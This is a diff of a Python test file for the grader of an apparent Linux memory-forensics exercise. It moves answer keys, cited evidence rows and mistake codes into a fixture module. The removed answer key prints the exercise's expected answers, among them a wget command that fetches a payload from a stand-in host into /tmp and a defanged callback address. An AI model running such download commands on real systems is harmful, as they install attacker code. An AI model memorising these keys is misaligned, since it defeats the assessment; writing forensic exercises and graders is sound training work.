@@ -8,53 +8,25 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tests.unit.grading.miniature import ARCHIVE, ROWS, question, questions, row, sealed
-from training.grading.citations import MOST_CITATIONS, Citation, Cited, CitedLine
+from tests.unit.grading.miniature import (
+    MISTAKES,
+    PROOF,
+    RIGHT,
+    ROWS,
+    cite,
+    question,
+    questions,
+    row,
+    sealed,
+    submit,
+)
+from training.grading import feedback
+from training.grading.citations import MOST_CITATIONS, Citation, Cited
 from training.grading.credit import Hinted, History, Tried
 from training.grading.judge import Confidence, Finding, StaleSeal, State, Verdict, judge, understand
 from training.grading.keys.syntax import Query
 from training.grading.question import Question
 from training.grading.values.base import Unreadable
-
-
-def cite(plugin: str, **cells: object) -> Cited:
-    return Cited(plugin, "complete", row(plugin, **cells))
-
-
-RECORD = CitedLine("record", 4, "12:20:00 memory captured")
-PROOF: dict[str, list[Citation]] = {
-    "q1": [cite("linux.psaux", PID=145), cite("linux.proc.Maps", PID=145)],
-    "q2": [cite("linux.malware.process_spoofing", PID=145)],
-    "q3": [cite("linux.pslist", PID=pid) for pid in (1, 120, 145)],
-    "q4": [cite("linux.bash", PID=99, Command="ls"), cite("linux.bash", CommandTime="2026-03-10T12:09:20+00:00"),
-           cite("linux.pslist", PID=99)],
-    "q5": [cite("linux.bash", CommandTime="2026-03-10T12:09:02+00:00")],
-    "q6": [cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), cite("linux.pagecache.Files", InodeSize=9)],
-    "q7": [cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), cite("linux.pagecache.Files", InodeSize=9)],
-    "q8": [cite("linux.bash", Command="ls"), cite("linux.bash", Command="less list")],
-    "q9": [cite("linux.psscan", PID=140)],
-    "q10": [cite("linux.bash", CommandTime="2026-03-10T12:09:02+00:00"), cite("linux.pslist", PID=145),
-            cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), RECORD],
-    "q11": [cite("linux.sockstat", PID=145)],
-}  # fmt: skip
-RIGHT = {
-    "q1": "0x91",
-    "q2": "/memfd:upd (deleted)",
-    "q3": "145 < 120 < 1",
-    "q4": "120 99",
-    "q5": " wget http://files.example/a/upd -O /tmp/upd",
-    "q6": "2026-03-10 13:10:45 +01:00",
-    "q7": ARCHIVE,
-    "q8": "٤",
-    "q9": "ran some time before capture",
-    "q10": "fetch > start > archive > memory captured",
-    "q11": "hxxp://203[.]0[.]113[.]66:8443",
-}
-
-
-def submit(name: str, text: str, citations: list[Citation] | None = None, history: History | None = None) -> Verdict:
-    cited = PROOF[name] if citations is None else citations
-    return judge(question(name), Finding(text), sealed().keys[name], cited, history or History())
 
 
 @pytest.mark.parametrize("name", RIGHT)
@@ -80,7 +52,7 @@ def test_right_answers_without_or_with_other_citations(name: str) -> None:
     part = 0.75 if question(name).corroboration else 1
     assert other.support == 0.5
     assert other.credit == 0.5 * part
-    assert other.shows == "No cited place shows it."
+    assert other.shows == "No cited place shows it, so its proof earns half."
     short: list[Citation] = [replace(one, state="partial") for one in PROOF[name] if isinstance(one, Cited)]
     partial = submit(name, RIGHT[name], short)
     assert (partial.support, partial.credit) == (0, 0)
@@ -111,23 +83,6 @@ def test_a_row_must_meet_the_condition_too() -> None:
         submit("q1", "145", [Cited("linux.psaux", "complete", {**row("linux.psaux", PID=145), "PPID": 2})]).support
         == 0.5
     )
-
-
-MISTAKES = [
-    ("q1", "17", "M-KTHR"), ("q1", "18", "M-KTHR"), ("q1", "120", "M-PPID"),
-    ("q2", "[kworker/2:1]", "M-COMM"), ("q2", "memfd:upd", "M-COMM"), ("q2", "/bin/busybox", "M-SCRIPT"),
-    ("q3", "145>120>1", "M-PPID"), ("q3", "1>140>145", "M-REMN"),
-    ("q4", "99, 120, 101", "M-ASH"), ("q4", "99, 120, 130", "M-NOLINES"),
-    ("q5", "wget http://mirror.example/list", "M-LOAD"), ("q5", "http://files.example/a/upd", "M-PART"),
-    ("q6", "2026-03-10 13:10:44", "M-HOUR"), ("q6", "2026-03-10 06:40:45", "M-HOUR"),
-    ("q6", "2026-03-10 11:58:01Z", "M-LOAD"),
-    ("q6", "2026-03-10 12:12:19Z", "M-OFFS"),
-    ("q7", "/srv/payroll", "M-SOURCE"), ("q7", ARCHIVE[:24], "M-TRUNC"),
-    ("q8", "5", "M-DUP"), ("q8", "0", "M-ABSENT"),
-    ("q9", "was", "M-REMN"), ("q9", "was hidden", "M-HIDDEN"),
-    ("q10", "start > fetch > archive > capture", "M-OFFS"), ("q10", "fetch > start > archive > sent", "M-ACT"),
-    ("q11", "192.0.2.17:60685", "M-ENDS"), ("q11", "0.0.0.0:22", "M-LISTEN"),
-]  # fmt: skip
 
 
 @pytest.mark.parametrize(("name", "text", "code"), MISTAKES)
@@ -299,3 +254,70 @@ def test_any_text_gets_a_verdict(text: str, name: str) -> None:
     verdict = submit(name, text)
     assert verdict.state in {State.JUDGED, State.UNREADABLE}
     assert Verdict.model_validate_json(verdict.model_dump_json()) == verdict
+
+
+WRITTEN = Question.model_validate(
+    {
+        "id": "court",
+        "type": "written",
+        "text": "Who typed these lines?",
+        "points": [10],
+        "rubric": [{"id": "limits", "text": "Limits are stated", "levels": ["no", "yes"]}],
+    }
+)
+
+
+def test_free_text_goes_to_a_marker_and_spends_nothing() -> None:
+    verdict = judge(WRITTEN, Finding("Nobody can say.\nThe rows name an account."), None, PROOF["q1"])
+    assert verdict.state is State.UNJUDGED
+    assert verdict.understood == "Nobody can say.\nThe rows name an account."
+    assert verdict.shows == "This answer is free text, which no program judges."
+    assert verdict.next == "A marker decides. No try was spent."
+    assert (verdict.points, verdict.worth, verdict.tries_left) == (0, 10, 1)
+    assert judge(WRITTEN, Finding(" "), None, []).state is State.UNREADABLE
+
+
+def test_lateness_takes_from_the_gain_and_from_what_is_left_to_earn() -> None:
+    late = judge(question("q1"), Finding("145"), sealed().keys["q1"], PROOF["q1"][:1], History(), share=0.5)
+    assert (late.credit, late.points, late.gained) == (0.75, 3.75, 3.75)
+    assert late.worth == pytest.approx(0.25 * 7 * 0.5)
+    nothing = judge(question("q1"), Finding("145"), sealed().keys["q1"], PROOF["q1"], History(), share=0.0)
+    assert (nothing.credit, nothing.points, nothing.solved) == (1, 0, True)
+
+
+def test_an_examination_shows_what_the_data_show_and_no_figure() -> None:
+    verdict = submit("q4", "99, 120, 101", PROOF["q4"], History((Tried(0.2),)))
+    shown = feedback.for_examination(verdict)
+    assert shown.shows == verdict.shows != ""
+    assert (shown.state, shown.understood, shown.notes) == (verdict.state, verdict.understood, verdict.notes)
+    assert shown.tries_left == verdict.tries_left == 1
+    hidden = {"correctness", "support", "corroboration", "cost", "credit", "right", "next", "mistake", "lookalikes"}
+    empty = Verdict(state=State.JUDGED, points=0, worth=0, tries_left=0)
+    for name in (*hidden, "solved", "points", "gained", "worth"):
+        assert getattr(shown, name) == getattr(empty, name), name
+    assert "q4" not in shown.shows
+
+
+def test_before_the_release_a_finding_is_received_and_no_more() -> None:
+    seen = {
+        feedback.before_release(submit("q1", text, cited)).model_dump_json(exclude={"understood"})
+        for text in ("145", "17", "9")
+        for cited in (PROOF["q1"], [])
+    }
+    assert len(seen) == 1
+    received = feedback.before_release(submit("q1", "0x91"))
+    assert (received.state, received.understood, received.tries_left) == (State.RECEIVED, "145", 3)
+    assert (received.notes, received.shows, received.points) == ((), "", 0)
+
+
+def test_a_sequence_is_told_what_stands_before_what_it_needs() -> None:
+    source = question("q10").model_dump(mode="json")
+    source["before"] = {"start": ["fetch"], "archive": ["start"], "capture": ["archive"]}
+    source["mistakes"] = []
+    free = Question.model_validate(source)
+    key = sealed().keys["q10"].model_copy(update={"material": free.material, "mistakes": ()})
+    verdict = judge(free, Finding("fetch > archive > start > capture"), key, PROOF["q10"])
+    assert verdict.correctness == 0.5
+    assert verdict.next == "'archive made' needs 'disguised process started' before it."
+    assert submit("q10", "fetch > archive > start > capture").next.startswith("Compare the question")
+    assert judge(free, Finding(RIGHT["q10"]), key, PROOF["q10"]).credit == 1
